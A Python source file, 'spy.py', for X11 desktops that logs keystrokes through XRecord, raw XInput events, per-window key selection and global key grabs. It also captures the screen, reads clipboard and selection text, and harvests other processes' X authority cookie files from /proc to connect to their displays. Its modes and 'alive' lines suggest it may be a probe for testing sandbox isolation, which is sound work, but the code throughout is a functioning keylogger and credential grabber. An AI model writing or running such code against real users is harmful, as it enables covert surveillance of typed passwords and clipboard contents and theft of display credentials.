"""A program that writes down what it sees of the screen and the keyboard.

Usage: python3 spy.py FILE MODE; further arguments are ignored. The system's Python runs it, inside
a desktop. It writes a line for each picture of the screen ("image"), each key ("key NAME"), each
text of a selection ("text TEXT") and, four times a second, "alive". The mode "every" is all ways to
listen at once, and "steal" those that take the keys from other programs, too.
"""

import ctypes
import os
import select
import sys
import time
from collections.abc import Callable
from ctypes import POINTER, Structure, byref, c_char_p, c_int, c_long, c_uint, c_ulong, c_void_p
from pathlib import Path

x11 = ctypes.CDLL("libX11.so.6")
xtst = ctypes.CDLL("libXtst.so.6")
xi = ctypes.CDLL("libXi.so.6")
HANDLER = ctypes.CFUNCTYPE(c_int, c_void_p, c_void_p)
ignore = HANDLER(lambda display, error: 0)
x11.XSetErrorHandler(ignore)
x11.XOpenDisplay.restype = c_void_p
x11.XOpenDisplay.argtypes = [c_char_p]
x11.XDefaultRootWindow.restype = c_ulong
x11.XGetImage.restype = c_void_p
x11.XGetImage.argtypes = [c_void_p, c_ulong, c_int, c_int, c_uint, c_uint, c_ulong, c_int]
x11.XDestroyImage.argtypes = [c_void_p]
x11.XKeycodeToKeysym.restype = c_ulong
x11.XKeysymToString.restype = c_char_p
x11.XKeysymToString.argtypes = [c_ulong]
x11.XCreateSimpleWindow.restype = c_ulong
x11.XCreateSimpleWindow.argtypes = [c_void_p, c_ulong, *[c_int] * 2, *[c_uint] * 3, *[c_ulong] * 2]
x11.XSelectInput.argtypes = [c_void_p, c_ulong, c_long]
x11.XMapWindow.argtypes = [c_void_p, c_ulong]
x11.XInternAtom.restype = c_ulong
x11.XChangeProperty.argtypes = [
    *(c_void_p, c_ulong, c_ulong, c_ulong, c_int, c_int, c_void_p, c_int),
]
x11.XConvertSelection.argtypes = [c_void_p, c_ulong, c_ulong, c_ulong, c_ulong, c_ulong]
x11.XGetWindowProperty.argtypes = [c_void_p, c_ulong, c_ulong, c_long, c_long, c_int, c_ulong]
x11.XGetWindowProperty.argtypes += [c_void_p] * 5
x11.XGrabKey.argtypes = [c_void_p, c_int, c_uint, c_ulong, *[c_int] * 3]
xtst.XRecordAllocRange.restype = c_void_p
xtst.XRecordCreateContext.restype = c_ulong

KEY_PRESS, GENERIC = 2, 35
ALL_PLANES, Z_PIXMAP = c_ulong(-1).value, 2
XI_KEY_PRESS, XI_RAW_KEY_PRESS, ALL_MASTER_DEVICES = 2, 13, 1
SELECTION_NOTIFY, SELECTIONS = 31, (b"PRIMARY", b"CLIPBOARD")
ANY_MODIFIER, ASYNC = 1 << 15, 1


class InterceptData(Structure):
    _fields_ = [
        *(("id", c_ulong), ("time", c_ulong), ("sequence", c_ulong), ("category", c_int)),
        *(("swapped", c_int), ("data", POINTER(ctypes.c_ubyte)), ("length", c_ulong)),
    ]


class Mask(Structure):
    _fields_ = [("device", c_int), ("length", c_int), ("mask", c_void_p)]


class GenericEvent(Structure):
    _fields_ = [
        *(("type", c_int), ("serial", c_ulong), ("sent", c_int), ("display", c_void_p)),
        *(("extension", c_int), ("kind", c_int), ("cookie", c_uint), ("data", c_void_p)),
    ]


class RawEvent(Structure):
    _fields_ = [
        *(("type", c_int), ("serial", c_ulong), ("sent", c_int), ("display", c_void_p)),
        *(("extension", c_int), ("kind", c_int), ("time", c_ulong), ("device", c_int)),
        *(("source", c_int), ("detail", c_int)),
    ]


class Spy:
    def __init__(self, file: str) -> None:
        self.file = open(file, "a", buffering=1)  # noqa: SIM115, PTH123
        self.display = c_void_p(x11.XOpenDisplay(None))
        if not self.display:
            self.note("no display")
            sys.exit(1)
        self.root = c_ulong(x11.XDefaultRootWindow(self.display))
        self.reports: list[tuple[c_void_p, Callable[[], object]]] = []
        self.pressed: set[int] = set()
        self.own = c_ulong(x11.XCreateSimpleWindow(self.display, self.root, 0, 0, 9, 9, 0, 0, 0))

    def note(self, line: str) -> None:
        print(line, file=self.file)

    def key(self, code: int) -> None:
        symbol = x11.XKeycodeToKeysym(self.display, c_uint(code), c_int(0))
        self.note(f"key {(x11.XKeysymToString(symbol) or b'?').decode()}")

    def image(self) -> None:
        image = x11.XGetImage(self.display, self.root, 0, 0, 64, 64, ALL_PLANES, Z_PIXMAP)
        if image:
            x11.XDestroyImage(image)
            self.note("image")

    def keymap(self) -> None:
        state = (ctypes.c_ubyte * 32)()
        x11.XQueryKeymap(self.display, state)
        down = {code for code in range(256) if state[code // 8] >> code % 8 & 1}
        for code in down - self.pressed:
            self.key(code)
        self.pressed = down

    def record(self) -> None:
        address = xtst.XRecordAllocRange()
        if not address:
            return
        wanted = ctypes.cast(address, POINTER(ctypes.c_ubyte))
        wanted[18] = wanted[19] = KEY_PRESS
        major, minor = c_int(), c_int()
        if not xtst.XRecordQueryVersion(self.display, byref(major), byref(minor)):
            return
        clients, ranges = c_ulong(3), c_void_p(address)
        context = xtst.XRecordCreateContext(
            self.display, c_int(0), byref(clients), c_int(1), byref(ranges), c_int(1)
        )
        x11.XSync(self.display, c_int(0))
        self.data = c_void_p(x11.XOpenDisplay(None))
        self.recorded = ctypes.CFUNCTYPE(None, c_void_p, POINTER(InterceptData))(self._recorded)
        xtst.XRecordEnableContextAsync(self.data, c_ulong(context), self.recorded, c_void_p())
        self.reports.append((self.data, lambda: xtst.XRecordProcessReplies(self.data)))

    def _recorded(self, _: object, found: "ctypes._Pointer[InterceptData]") -> None:
        if found[0].category == 0 and found[0].length and found[0].data[0] & 127 == KEY_PRESS:
            self.key(found[0].data[1])
        xtst.XRecordFreeData(found)

    def raw(self) -> None:
        version = (c_int(2), c_int(0))
        xi.XIQueryVersion(self.display, byref(version[0]), byref(version[1]))
        self.select(self.root.value, XI_RAW_KEY_PRESS)
        self.reports.append((self.display, self._events))

    def select(self, window: int, event: int) -> None:
        """Select events of a window by the X Input Extension."""
        bits = (ctypes.c_ubyte * 4)()
        bits[event // 8] |= 1 << event % 8
        mask = Mask(ALL_MASTER_DEVICES, 4, ctypes.cast(bits, c_void_p))
        xi.XISelectEvents(self.display, c_ulong(window), byref(mask), c_int(1))

    def windows(self, event: int = 0) -> None:
        """Select the keys of every window, by the X Input Extension if ``event`` is given.

        Then the server does not report them as core events to the window's owner.
        """
        x11.XQueryTree.argtypes = [c_void_p, c_ulong, *[c_void_p] * 4]
        todo, seen = [self.root.value], set()
        while todo:
            window = todo.pop()
            seen.add(window)
            x11.XSelectInput(self.display, window, 1)
            # A client has one mask for a window, and the root window's is for raw events.
            if event and window != self.root.value:
                self.select(window, event)
            root, parent, count, children = c_ulong(), c_ulong(), c_uint(), POINTER(c_ulong)()
            if x11.XQueryTree(self.display, window, *map(byref, (root, parent, children, count))):
                todo += [children[i] for i in range(count.value) if children[i] not in seen]
        x11.XSync(self.display, c_int(0))
        self.reports.append((self.display, self._events))

    def _events(self) -> None:
        event = (c_long * 24)()
        while x11.XPending(self.display):
            x11.XNextEvent(self.display, byref(event))
            if event[0] & 127 == KEY_PRESS:
                # XKeyEvent.keycode follows window, root, subwindow, time, four positions, state.
                self.key(ctypes.cast(event, POINTER(c_uint))[21])
            generic = GenericEvent.from_buffer(event)
            if event[0] & 127 == GENERIC and x11.XGetEventData(self.display, byref(event)):
                if generic.kind in (XI_KEY_PRESS, XI_RAW_KEY_PRESS) and generic.data:
                    self.key(ctypes.cast(generic.data, POINTER(RawEvent))[0].detail)
                x11.XFreeEventData(self.display, byref(event))
            if event[0] & 127 == SELECTION_NOTIFY:
                self._received()

    def grab(self) -> None:
        """Grab each key of the root window."""
        for code in range(8, 256):
            x11.XGrabKey(self.display, code, ANY_MODIFIER, self.root, 0, ASYNC, ASYNC)

    def selections(self) -> None:
        """Ask for the texts of the selections; the answers are events."""
        for name in SELECTIONS:
            selection, kind = (x11.XInternAtom(self.display, one, 0) for one in (name, b"STRING"))
            x11.XConvertSelection(self.display, selection, kind, selection, self.own, 0)
        x11.XFlush(self.display)

    def _received(self) -> None:
        kind, shape, length, left, data = c_ulong(), c_int(), c_ulong(), c_ulong(), c_char_p()
        for name in SELECTIONS:
            held = x11.XInternAtom(self.display, name, 0)
            where = (self.display, self.own, held, 0, 1000, 1, 0)
            x11.XGetWindowProperty(*where, *map(byref, (kind, shape, length, left, data)))
            if data.value:
                self.note(f"text {data.value.decode(errors='replace')}")

    def window(self, tray: bool) -> None:
        """Own a window, or what a panel embeds as a tray icon."""
        window = x11.XCreateSimpleWindow(self.display, self.root, 40, 40, 90, 60, 0, 0, 0xFFFFFF)
        if tray:
            name = x11.XInternAtom(self.display, b"_XEMBED_INFO", c_int(0))
            info = (c_long * 2)(0, 1)
            x11.XChangeProperty(self.display, window, name, name, 32, 0, info, 2)
        x11.XMapWindow(self.display, window)
        x11.XFlush(self.display)

    def stolen(self) -> None:
        """Connect with any cookie file that processes name."""
        named = set()
        for folder in Path("/proc").glob("[0-9]*"):
            try:
                for pair in (folder / "environ").read_bytes().split(b"\0"):
                    if pair.startswith(b"XAUTHORITY="):
                        named.add(pair[11:].decode())
                words = (folder / "cmdline").read_bytes().split(b"\0")
                if b"-auth" in words:
                    named.add(words[words.index(b"-auth") + 1].decode())
            except OSError:
                continue
        for path in named - {os.environ.get("XAUTHORITY")}:
            if os.access(path, os.R_OK):
                self.note(f"cookie {path}")
                os.environ["XAUTHORITY"] = path
                self.display = c_void_p(x11.XOpenDisplay(None))


def main() -> None:
    file, mode = sys.argv[1:3]
    spy = Spy(file)
    if mode == "stolen":
        spy.stolen()
    if mode in ("window", "tray"):
        spy.window(mode == "tray")
    every = mode in ("every", "steal")
    if every or mode == "windows":
        spy.windows(XI_KEY_PRESS if mode == "steal" else 0)
    if mode != "windows":
        spy.record()
        spy.raw()
    if mode == "steal":
        spy.grab()
    spy.note("ready")
    last = 0.0
    while True:
        watched = {x11.XConnectionNumber(display): act for display, act in spy.reports}
        for one in select.select(list(watched), [], [], 0.01)[0]:
            watched[one]()
        spy.keymap()
        if time.monotonic() - last > 0.25:
            last = time.monotonic()
            spy.note("alive")
            spy.image()
            if every:
                spy.selections()


main()
